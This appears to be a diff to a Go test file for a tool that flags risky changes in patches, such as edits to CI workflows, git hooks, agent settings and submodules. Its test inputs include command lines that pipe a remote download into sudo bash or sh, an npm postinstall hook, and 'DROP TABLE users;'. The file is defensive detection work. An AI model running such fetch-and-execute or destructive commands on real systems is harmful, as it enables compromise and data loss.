@@ -23,6 +23,13 @@ func kinds(found []autonoma.Effect) string {
 func TestPaths(t *testing.T) {
 	for path, want := range map[string]string{
 		".github/workflows/ci.yml":          "ci:critical",
+		".github/workflows":                 "ci:critical", // a link
+		".github":                           "ci:critical",
+		".husky":                            "hooks:critical",
+		".claude/settings.json":             "hooks:critical",
+		".gitmodules":                       "submodules:high",
+		"Jenkinsfile.deploy":                "ci:critical",
+		".github/ISSUE_TEMPLATE.md":         "",
 		"sub/.gitlab-ci.yml":                "ci:critical",
 		"CODEOWNERS":                        "ownership:critical",
 		".husky/pre-commit":                 "hooks:critical",
@@ -101,12 +108,23 @@ func TestAddedLines(t *testing.T) {
 		{"README.md", "DROP TABLE users;", ""},
 		{"install.sh", "curl -s https://x.invalid/i | sudo bash", "danger:critical"},
 		{"install.sh", "curl -s https://x.invalid/i > file", ""},
+		{"install.sh", `sh -c "$(curl -s https://x.invalid/i)"`, "danger:critical"},
+		{"package.json", `    "postinstall": "node x.js",`, "hooks:critical"},
+		{"package.json", `    "installed": "x",`, ""},
 		{"client.go", "	InsecureSkipVerify: true,", "danger:high"},
 		{"client.go", "++ b/db/up.sql", ""},
 	} {
 		if got := kinds(effect.Of(nil, patch(c.path, "first", c.line, "DROP IT"))); got != c.want {
 			t.Errorf("%s: %s: %q, want %q", c.path, c.line, got, c.want)
 		}
+	}
+}
+
+// A name with odd bytes, which git quotes, hides no line.
+func TestQuotedName(t *testing.T) {
+	text := strings.ReplaceAll(string(patch("db/up.sql", "DROP TABLE users;")), "b/db/up.sql", `"b/db/\"\303\251\tup.sql"`)
+	if got := effect.Of(nil, []byte(text)); kinds(got) != "data_loss:critical" || got[0].What != "db/\"é\tup.sql" {
+		t.Errorf("%+v", got)
 	}
 }
 
